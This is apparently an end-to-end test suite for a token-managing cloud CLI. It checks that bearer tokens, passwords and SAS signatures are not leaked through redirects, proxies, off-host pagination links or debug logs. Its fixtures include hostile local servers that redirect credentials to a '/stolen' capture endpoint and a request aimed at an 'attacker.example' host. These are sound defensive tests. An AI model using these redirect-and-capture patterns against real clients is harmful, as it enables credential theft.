/**
 * Where credentials may go (issue 8 items 3, 4, 9, 10; issue 12 items 3, 12, 14), end to end:
 * the built bin/azkeep.js against the emulator, with a capture server on 127.0.0.1 that plays
 * the attacker's host (a different port is a different origin) and must receive nothing where
 * a leak is the attack, a hostile server that redirects there, and an https one whose
 * certificate the emulator's CA signed.
 */
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import {
  createServer,
  type IncomingHttpHeaders,
  type IncomingMessage,
  type Server,
  type ServerResponse,
} from "node:http";
import { createServer as createHttpsServer } from "node:https";
import type { AddressInfo, Socket } from "node:net";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { issueServerCertificate, loadOrCreateCa } from "../../src/emulator/ca.js";
import { completeAuthorize } from "../../src/emulator/index.js";
import { BIN, runCli, tempHome } from "../helpers/cli.js";
import { ALICE, CONTOSO, DEV_SUB, SP, signedIn, type SignedIn } from "../tokens/signed-in.js";

interface Hit {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

interface TestServer {
  url: string;
  port: number;
  hits: Hit[];
  close(): Promise<void>;
}

type Handler = (hit: Hit, res: ServerResponse) => void;

function record(handler: Handler, hits: Hit[]) {
  return (req: IncomingMessage, res: ServerResponse) => {
    let body = "";
    req.on("data", (d: Buffer) => (body += d.toString()));
    req.on("end", () => {
      const hit = { method: req.method ?? "", url: req.url ?? "", headers: req.headers, body };
      hits.push(hit);
      handler(hit, res);
    });
  };
}

async function listen(
  make: (h: ReturnType<typeof record>) => Server,
  handler: Handler,
  scheme: "http" | "https",
): Promise<TestServer> {
  const hits: Hit[] = [];
  const server = make(record(handler, hits));
  const sockets = new Set<Socket>();
  server.on("connection", (s: Socket) => {
    sockets.add(s);
    s.on("close", () => sockets.delete(s));
  });
  // A CONNECT (a client taking this server for a proxy) is a hit too.
  server.on("connect", (req: IncomingMessage, socket: Socket) => {
    hits.push({ method: "CONNECT", url: req.url ?? "", headers: req.headers, body: "" });
    socket.end("HTTP/1.1 403 Forbidden\r\n\r\n");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `${scheme}://127.0.0.1:${port}`,
    port,
    hits,
    close: () =>
      new Promise((r) => {
        for (const s of sockets) s.destroy();
        server.close(() => r());
      }),
  };
}

const json = (res: ServerResponse, status: number, body: unknown) => {
  res.writeHead(status, { "content-type": "application/json" });
  res.end(JSON.stringify(body));
};

describe("credentials never leave their audience (e2e, emulator)", { timeout: 600_000 }, () => {
  let s: SignedIn;
  let capture: TestServer;
  let hostile: TestServer;
  let hostileTls: TestServer;
  let armMode: "ok" | "redirect" | "nextLink" = "ok";
  let echo = "";
  const SUB = "0badc0de-0000-4000-8000-000000000001";

  before(async () => {
    s = await signedIn();
    capture = await listen(
      (h) => createServer(h),
      (_h, res) => json(res, 200, { captured: true }),
      "http",
    );
    hostile = await listen(
      (h) => createServer(h),
      (hit, res) => {
        const path = hit.url.split("?")[0]!;
        if (path === "/302") return void res.writeHead(302, { location: `${capture.url}/stolen` }).end();
        if (path === "/307") return void res.writeHead(307, { location: `${capture.url}/stolen` }).end();
        if (path === "/echo")
          return json(res, 400, { error: { code: "EchoedSecret", message: `got ${echo}` } });
        // A cloud's resource manager that tries to move discovery elsewhere.
        if (path === "/arm/tenants" || path === "/arm/subscriptions") {
          const tenants = path === "/arm/tenants";
          if (armMode === "redirect")
            return void res.writeHead(302, { location: `${capture.url}${path}` }).end();
          const value = tenants
            ? [{ tenantId: CONTOSO, displayName: "Contoso", defaultDomain: "contoso.onmicrosoft.com" }]
            : [{ subscriptionId: SUB, displayName: "Hostile", state: "Enabled", tenantId: CONTOSO }];
          return json(
            res,
            200,
            armMode === "nextLink" ? { value, nextLink: `${capture.url}${path}?page=2` } : { value },
          );
        }
        json(res, 404, { error: { code: "NotFound", message: path } });
      },
      "http",
    );
    const ca = await loadOrCreateCa(s.emu.dataDir);
    const leaf = await issueServerCertificate(ca, ["127.0.0.1"]);
    hostileTls = await listen(
      (h) => createHttpsServer({ key: leaf.keyPem, cert: leaf.chainPem }, h),
      (hit, res) => {
        if (hit.url.startsWith("/to-http"))
          return void res.writeHead(302, { location: `http://127.0.0.1:${capture.port}/stolen` }).end();
        json(res, 200, { tls: true });
      },
      "https",
    );
  });
  after(async () => {
    await capture?.close();
    await hostile?.close();
    await hostileTls?.close();
    await s?.close();
  });

  const CUSTOM = () => `api://${SP.clientId}`;
  const refused = (stderr: string) => stderr.split("\n").filter((l) => l.startsWith("ERROR: ")).length === 1;

  // ---- 8.3: redirects ------------------------------------------------------------------------

  it("8.3 rest: an https → http redirect is not followed, with the token or with --headers Authorization", async () => {
    capture.hits.length = 0;
    hostileTls.hits.length = 0;
    const withToken = await s.cli([
      "rest",
      "--url",
      `${hostileTls.url}/to-http`,
      "--resource",
      CUSTOM(),
      "--token-host",
      `127.0.0.1:${hostileTls.port}`,
    ]);
    assert.equal(withToken.code, 1, withToken.stderr);
    assert.match(withToken.stderr, /^ERROR: .*refused a redirect from https to http/m);
    assert.ok(refused(withToken.stderr), withToken.stderr);
    assert.match(
      String(hostileTls.hits[0]?.headers.authorization),
      /^Bearer /,
      "the named host got the token",
    );
    const userHeader = await s.cli([
      "rest",
      "--url",
      `${hostileTls.url}/to-http`,
      "--headers",
      "Authorization=Bearer user-given-secret",
    ]);
    assert.equal(userHeader.code, 1, userHeader.stderr);
    assert.match(userHeader.stderr, /from https to http/);
    assert.equal(capture.hits.length, 0, "nothing reached the http target");
  });

  it("8.3 rest: a 307 carrying a body to another host is refused; a 302 drops --headers Authorization", async () => {
    capture.hits.length = 0;
    const put = await s.cli([
      "rest",
      "-m",
      "put",
      "--url",
      `${hostile.url}/307`,
      "--headers",
      "Authorization=Bearer user-given-secret",
      "--body",
      '{"password":"body-secret"}',
    ]);
    assert.equal(put.code, 1, put.stderr);
    assert.match(put.stderr, /refused to resend the request body to another host/);
    assert.equal(capture.hits.length, 0, "nothing reached the other host");

    const get = await s.cli([
      "rest",
      "--url",
      `${hostile.url}/302`,
      "--headers",
      "Authorization=Bearer user-given-secret",
      "X-Kept=1",
    ]);
    assert.equal(get.code, 0, get.stderr);
    assert.equal(capture.hits.length, 1);
    assert.equal(capture.hits[0]!.headers.authorization, undefined, "the credential stayed on its origin");
    assert.equal(capture.hits[0]!.headers["x-kept"], "1");
  });

  it("8.3 login and account list --refresh: ARM discovery follows neither a redirect nor a nextLink off its endpoint", async () => {
    using h = tempHome();
    const env = { ...h.env, ...s.emu.env, AZKEEP_STORE_PROVIDER: "insecure-file" };
    const cli = (args: string[], input?: string) =>
      runCli(args, { env, ...(input !== undefined ? { input } : {}), timeoutMs: 120_000 });
    const reg = await cli([
      "cloud",
      "register",
      "-n",
      "Hostile",
      "--endpoint-resource-manager",
      `${hostile.url}/arm/`,
      "--endpoint-active-directory",
      s.emu.urls.http,
      "--endpoint-active-directory-resource-id",
      "https://management.core.windows.net/",
    ]);
    assert.equal(reg.code, 0, reg.stderr);
    assert.equal((await cli(["cloud", "set", "-n", "Hostile"])).code, 0);
    capture.hits.length = 0;
    for (const mode of ["redirect", "nextLink"] as const) {
      armMode = mode;
      const r = await cli(["login", "-u", ALICE.upn, "--password-stdin"], ALICE.password);
      assert.equal(r.code, 1, r.stderr);
      assert.match(
        r.stderr,
        mode === "redirect"
          ? /redirected to http:\/\/127\.0\.0\.1:\d+; azkeep does not follow it/
          : /nextLink on another endpoint/,
      );
    }
    armMode = "ok";
    const ok = await cli(["login", "-u", ALICE.upn, "--password-stdin"], ALICE.password);
    assert.equal(ok.code, 0, ok.stderr);
    armMode = "nextLink";
    const refresh = await cli(["account", "list", "--refresh"]);
    assert.equal(refresh.code, 1, refresh.stderr);
    assert.match(refresh.stderr, /nextLink on another endpoint/);
    armMode = "ok";
    assert.equal(capture.hits.length, 0, "the ARM token never reached the other host");
  });

  // ---- 8.4: tokens bound to hosts --------------------------------------------------------------

  it("8.4 rest: well-known application ids and other clouds' app-id URIs are their service", async () => {
    capture.hits.length = 0;
    for (const resource of [
      "797f4846-ba00-4fd7-ba43-dac1f8f63013",
      "00000003-0000-0000-c000-000000000000",
      "cfa8b339-82a2-471a-a3c9-0fc0be7a4093",
      "https://management.core.usgovcloudapi.net/",
    ]) {
      const r = await s.cli(["rest", "--url", `${capture.url}/steal`, "--resource", resource]);
      assert.equal(r.code, 1, r.stderr);
      assert.match(r.stderr, /^ERROR: Refusing to send a token for .* not part of the token's audience/m);
    }
    assert.equal(capture.hits.length, 0);
    const arm = await s.cli([
      "rest",
      "-m",
      "GET",
      "--url",
      "/subscriptions?api-version=2022-12-01",
      "--resource",
      "797f4846-ba00-4fd7-ba43-dac1f8f63013",
      "--query",
      "value[].subscriptionId",
    ]);
    assert.equal(arm.code, 0, arm.stderr);
    assert.ok((JSON.parse(arm.stdout) as string[]).includes(DEV_SUB));
  });

  it("8.4 rest: plain http to a host that is not this machine never gets a token (nothing sent, even through a proxy)", async () => {
    capture.hits.length = 0;
    const r = await s.cli(
      ["rest", "--url", "http://api.attacker.example/x", "--resource", "https://api.attacker.example"],
      {
        env: {
          HTTP_PROXY: capture.url,
          HTTPS_PROXY: capture.url,
          http_proxy: capture.url,
          https_proxy: capture.url,
          NO_PROXY: "",
          no_proxy: "",
        },
      },
    );
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /^ERROR: Refusing to send a token for .* the URL is plain http/m);
    assert.equal(capture.hits.length, 0);
  });

  it("8.4 rest: a custom resource goes only to its own domain, or to a host named with --token-host", async () => {
    capture.hits.length = 0;
    const no = await s.cli(["rest", "--url", `${capture.url}/api`, "--resource", CUSTOM()]);
    assert.equal(no.code, 1, no.stderr);
    assert.match(no.stderr, /not in the resource's domain/);
    assert.match(no.stderr, new RegExp(`--token-host 127\\.0\\.0\\.1:${capture.port}`));
    assert.equal(capture.hits.length, 0);
    const yes = await s.cli([
      "rest",
      "--url",
      `${capture.url}/api`,
      "--resource",
      CUSTOM(),
      "--token-host",
      `127.0.0.1:${capture.port}`,
    ]);
    assert.equal(yes.code, 0, yes.stderr);
    assert.equal(capture.hits.length, 1);
    assert.match(String(capture.hits[0]!.headers.authorization), /^Bearer eyJ/);
  });

  // ---- 8.9 / 12.3: redaction, plain-http clouds --------------------------------------------------

  it("8.9 --debug: a SAS sig= and a refresh token echoed by a server are redacted; 12.3: error codes are not", async () => {
    const rt = (await s.secrets()).refreshTokens[0]!.secret;
    echo = `refresh=${rt}`;
    const sas = await s.cli([
      "--debug",
      "rest",
      "--url",
      `${capture.url}/blob?sv=2022-11-02&sig=SASSECRETSIG0123456789`,
    ]);
    assert.equal(sas.code, 0, sas.stderr);
    assert.doesNotMatch(sas.stderr, /SASSECRETSIG/);
    assert.match(sas.stderr, /sig=\[REDACTED\]/);
    const r = await s.cli([
      "--debug",
      "rest",
      "--url",
      `${hostile.url}/echo`,
      "--resource",
      CUSTOM(),
      "--token-host",
      `127.0.0.1:${hostile.port}`,
    ]);
    assert.equal(r.code, 1, r.stderr);
    assert.ok(!r.stderr.includes(rt), "the refresh token is not printed");
    assert.match(r.stderr, /"code":"EchoedSecret"/);
    assert.match(r.stderr, /refresh=\[REDACTED\]/);
    const arm = await s.cli(["rest", "--url", "/subscriptions"]);
    assert.equal(arm.code, 1);
    assert.match(arm.stderr, /"code":"MissingApiVersionParameter"/);
  });

  it("8.9 cloud register refuses plain-http authorities and ARM endpoints off this machine (exit 2, nothing sent)", async () => {
    using h = tempHome();
    capture.hits.length = 0;
    const env = {
      ...h.env,
      HTTP_PROXY: capture.url,
      HTTPS_PROXY: capture.url,
      http_proxy: capture.url,
      https_proxy: capture.url,
      NO_PROXY: "",
      no_proxy: "",
    };
    for (const [flag, args] of [
      [
        "--endpoint-active-directory",
        [
          "--endpoint-resource-manager",
          "https://management.example.com/",
          "--endpoint-active-directory",
          "http://login.example.com",
        ],
      ],
      ["--endpoint-resource-manager", ["--endpoint-resource-manager", "http://management.example.com/"]],
    ] as const) {
      const r = await runCli(["cloud", "register", "-n", "Plain", ...args], { env });
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, new RegExp(`^ERROR: ${flag} 'http://[^']+' is not https`, "m"));
      assert.match(r.stderr, /Give .* as https:\/\//);
    }
    assert.equal(capture.hits.length, 0, "no metadata request went out");
    const list = await runCli(["cloud", "list", "--query", "[].name"], { env });
    assert.ok(!(JSON.parse(list.stdout) as string[]).includes("Plain"));
  });

  // ---- 8.10: no shell strings ------------------------------------------------------------------

  it("8.10 login on WSL: the authorize URL reaches rundll32.exe url.dll,FileProtocolHandler as one argument", async () => {
    using h = tempHome();
    const bin = join(h.home, "bin");
    mkdirSync(bin);
    const argvFile = join(h.home, "argv");
    writeFileSync(
      join(bin, "rundll32.exe"),
      `#!/bin/sh\nfor a in "$@"; do printf '%s\\0' "$a"; done > ${argvFile}.tmp && mv ${argvFile}.tmp ${argvFile}\n`,
    );
    chmodSync(join(bin, "rundll32.exe"), 0o755);
    const env = { ...h.env, ...s.emu.env, AZKEEP_STORE_PROVIDER: "insecure-file" };
    const reg = await runCli(
      [
        "cloud",
        "register",
        "-n",
        "Emulator",
        "--endpoint-resource-manager",
        `${s.emu.urls.http}/`,
        "--endpoint-active-directory",
        s.emu.urls.http,
        "--endpoint-active-directory-resource-id",
        "https://management.core.windows.net/",
      ],
      { env },
    );
    assert.equal(reg.code, 0, reg.stderr);
    assert.equal((await runCli(["cloud", "set", "-n", "Emulator"], { env })).code, 0);
    const childEnv: Record<string, string | undefined> = {
      ...process.env,
      ...env,
      PATH: `${bin}:/usr/bin:/bin`,
      WSL_DISTRO_NAME: "Ubuntu",
      NO_COLOR: "1",
    };
    delete childEnv.DISPLAY;
    delete childEnv.WAYLAND_DISPLAY;
    delete childEnv.BROWSER;
    const child = spawn(process.execPath, [BIN, "login"], { env: childEnv, detached: true });
    let stderr = "";
    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
    child.stdin.end();
    const exited = new Promise<number | null>((r) => child.on("close", r));
    try {
      let argv: string[] = [];
      for (let i = 0; i < 300 && argv.length === 0; i++) {
        try {
          argv = readFileSync(argvFile, "utf8").split("\0").slice(0, -1);
        } catch {
          await new Promise((r) => setTimeout(r, 100));
        }
      }
      assert.equal(argv.length, 2, `argv: ${JSON.stringify(argv)} ${stderr}`);
      assert.equal(argv[0], "url.dll,FileProtocolHandler");
      assert.match(argv[1]!, new RegExp(`^${s.emu.urls.http}/organizations/oauth2/v2.0/authorize\\?.*&.*&`));
      const redirect = await completeAuthorize(argv[1]!, { username: ALICE.upn, password: ALICE.password });
      await fetch(redirect.replace("//localhost:", "//127.0.0.1:"));
      assert.equal(await exited, 0, stderr);
    } finally {
      if (child.exitCode === null && child.pid) process.kill(-child.pid, "SIGKILL");
    }
  });

  // ---- 12.12: methods, CAE, refused cached tokens, --force-refresh --------------------------------

  it("12.12 rest takes the method in any case; an unknown one is a usage error", async () => {
    const r = await s.cli([
      "rest",
      "-m",
      "Get",
      "--url",
      `/subscriptions/${DEV_SUB}?api-version=2022-12-01`,
      "--query",
      "subscriptionId",
      "-o",
      "tsv",
    ]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.trim(), DEV_SUB);
    const bad = await s.cli(["rest", "-m", "FETCH", "--url", "/subscriptions"]);
    assert.equal(bad.code, 2, bad.stderr);
    assert.match(bad.stderr, /^ERROR: .*Allowed choices are delete, get/m);
  });

  it("12.12 rest retries once on a CAE claims challenge, with a new token carrying the claims", async () => {
    await s.emu.control.clearRequests();
    await s.emu.control.requireClaimsChallenge({ principal: ALICE.upn });
    try {
      const r = await s.cli([
        "rest",
        "--url",
        "/subscriptions?api-version=2022-12-01",
        "--query",
        "length(value)",
      ]);
      assert.equal(r.code, 0, r.stderr);
      const subs = await s.emu.control.requests({ endpoint: "subscriptions" });
      assert.deepEqual(
        subs.requests.map((x) => x.status),
        [401, 200],
      );
      assert.equal(await s.emu.control.countRequests({ endpoint: "token" }), 1);
    } finally {
      await s.emu.control.clearClaimsChallenges();
    }
  });

  it("12.12 rest refreshes a cached token that ARM calls InvalidAuthenticationToken, once", async () => {
    const store = await s.store();
    const bogus = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJhdWQiOiJ4In0.bm90LWEtc2lnbmF0dXJl";
    await store.update((state) => {
      for (const at of state.secrets.accessTokens)
        if (at.target.includes("management")) {
          at.secret = bogus;
          at.expiresOn = Math.floor(Date.now() / 1000) + 3000;
        }
    });
    const bogusBefore = (await s.secrets()).accessTokens.filter((a) => a.secret === bogus).length;
    assert.ok(bogusBefore >= 1);
    await s.emu.control.clearRequests();
    const r = await s.cli([
      "rest",
      "--url",
      `/subscriptions/${DEV_SUB}?api-version=2022-12-01`,
      "--query",
      "subscriptionId",
      "-o",
      "tsv",
    ]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.trim(), DEV_SUB);
    assert.equal(await s.emu.control.countRequests({ endpoint: "token" }), 1);
    const after = await s.secrets();
    assert.equal(
      after.accessTokens.filter((a) => a.secret === bogus).length,
      bogusBefore - 1,
      "the refused token was replaced",
    );
  });

  it("12.12 get-access-token --force-refresh (frame and fast lane) gets a new token and replaces the cached one", async () => {
    const get = async (...extra: string[]) => {
      const r = await s.cli(
        [...extra, "account", "get-access-token", "--query", "accessToken", "-o", "tsv"].filter(Boolean),
      );
      assert.equal(r.code, 0, r.stderr);
      return r.stdout.trim();
    };
    const t1 = await get();
    await s.emu.control.clearRequests();
    const t2 = (
      await s.cli(["account", "get-access-token", "--force-refresh", "--query", "accessToken", "-o", "tsv"])
    ).stdout.trim();
    assert.notEqual(t2, t1);
    assert.equal(await get(), t2, "the new token is the cached one now");
    const t3 = (
      await s.cli(["-o", "tsv", "account", "get-access-token", "--force-refresh", "--query", "accessToken"])
    ).stdout.trim();
    assert.ok(t3 && t3 !== t2);
    assert.equal(await s.emu.control.countRequests({ endpoint: "token" }), 2);
  });

  // ---- 12.14: exit codes and messages that tell the truth ----------------------------------------

  it("12.14 a bad --headers value is a usage error (exit 2), nothing sent", async () => {
    capture.hits.length = 0;
    for (const v of ["novalue", "{bad json"]) {
      const r = await s.cli(["rest", "--url", `${capture.url}/x`, "--headers", v]);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, /^ERROR: --headers: /m);
    }
    assert.equal(capture.hits.length, 0);
  });

  it("12.14 a failure memo names the earlier command, not 'another azkeep process'", async () => {
    await s.ageAccessTokens(-60);
    s.forgetFailures();
    await s.emu.control.injectFault({ endpoint: "token", type: "status", status: 503 });
    try {
      const first = await s.cli(["account", "get-access-token"]);
      assert.equal(first.code, 1, first.stderr);
      const second = await s.cli(["account", "get-access-token"]);
      assert.equal(second.code, 1, second.stderr);
      assert.doesNotMatch(second.stderr, /another azkeep process/i);
      assert.match(second.stderr, /azkeep failed to get this token moments ago \(an earlier command/);
    } finally {
      await s.emu.control.clearFaults();
      s.forgetFailures();
    }
  });

  it("12.14 a proxy that refuses is named as the cause, not login.microsoftonline.com", async () => {
    using h = tempHome();
    const refuser = await listen(
      (x) => createServer(x),
      (_h, res) => json(res, 403, {}),
      "http",
    );
    try {
      const env = {
        ...h.env,
        ...s.emu.env,
        HTTPS_PROXY: refuser.url,
        https_proxy: refuser.url,
        AZKEEP_STORE_PROVIDER: "insecure-file",
      };
      const r = await runCli(["login", "-u", ALICE.upn, "--password-stdin"], { env, input: ALICE.password });
      assert.equal(r.code, 1, r.stderr);
      assert.match(
        r.stderr,
        new RegExp(
          `^ERROR: Cannot reach login\\.microsoftonline\\.com through the proxy http://127\\.0\\.0\\.1:${refuser.port}: the proxy refused the tunnel \\(HTTP 403\\)`,
          "m",
        ),
      );
      assert.match(r.stderr, /The proxy http:\/\/127\.0\.0\.1:\d+ \(HTTPS_PROXY/);
    } finally {
      await refuser.close();
    }
  });

  it("12.14 account list --refresh fails (exit 1) when no identity could be refreshed", async () => {
    await s.emu.control.revokeRefreshTokens(ALICE.upn);
    const r = await s.cli(["account", "list", "--refresh"]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /^ERROR: Could not refresh the subscriptions/m);
    assert.match(r.stderr, /azkeep login/);
  });
});

describe(
  "12.14 device code sign-in survives network errors while polling (e2e, emulator)",
  { timeout: 180_000 },
  () => {
    it("a reset and a 503 during polling do not end the sign-in", async () => {
      using h = tempHome();
      const { startEmulator } = await import("../../src/emulator/index.js");
      const emu = await startEmulator({ dataDir: join(h.home, "emulator") });
      const env = { ...h.env, ...emu.env, AZKEEP_STORE_PROVIDER: "insecure-file", NO_COLOR: "1" };
      await emu.control.setLifetimes({ deviceCodeInterval: 1 });
      const child = spawn(process.execPath, [BIN, "login", "--use-device-code"], {
        env: { ...process.env, ...env },
        detached: true,
      });
      let stderr = "";
      child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
      child.stdin.end();
      const exited = new Promise<number | null>((r) => child.on("close", r));
      try {
        const dc = await emu.control.waitForDeviceCode({ timeoutMs: 30_000 });
        await emu.control.injectFault({ endpoint: "token", type: "reset", count: 1 });
        await emu.control.injectFault({ endpoint: "token", type: "status", status: 503, count: 1 });
        for (let i = 0; i < 200; i++) {
          const faulted = (await emu.control.requests({ endpoint: "token" })).requests.filter((r) => r.fault);
          if (faulted.length >= 2) break;
          await new Promise((r) => setTimeout(r, 100));
        }
        await emu.control.approveDeviceCode(dc.userCode, ALICE.upn);
        assert.equal(await exited, 0, stderr);
        const show = await runCli(["account", "show", "--query", "user.name", "-o", "tsv"], { env });
        assert.equal(show.stdout.trim(), ALICE.upn);
      } finally {
        if (child.exitCode === null && child.pid) process.kill(-child.pid, "SIGKILL");
        await emu.close();
      }
    });
  },
);
